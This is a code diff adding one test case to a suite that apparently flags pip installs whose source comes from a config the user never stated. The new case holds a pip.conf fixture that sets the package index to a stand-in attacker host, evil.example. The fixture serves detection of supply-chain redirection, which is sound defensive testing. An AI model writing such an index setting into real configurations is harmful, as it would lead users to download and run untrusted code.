@@ -306,6 +306,11 @@ describe('a manifest naming a source nobody stated is the install category', () 
       { 'HOMEDIR/.pip/pip.conf': '[global]\nno-index = true\nfind-links =\n    /tmp/wheels\n' },
     ],
     [
+      'a pip.conf key written as its option',
+      'pip install requests',
+      { 'HOMEDIR/.config/pip/pip.conf': '[global]\n--index-url = https://evil.example/simple\n' },
+    ],
+    [
       "a virtual environment's pip.conf",
       '.venv/bin/pip install -r requirements.txt',
       {
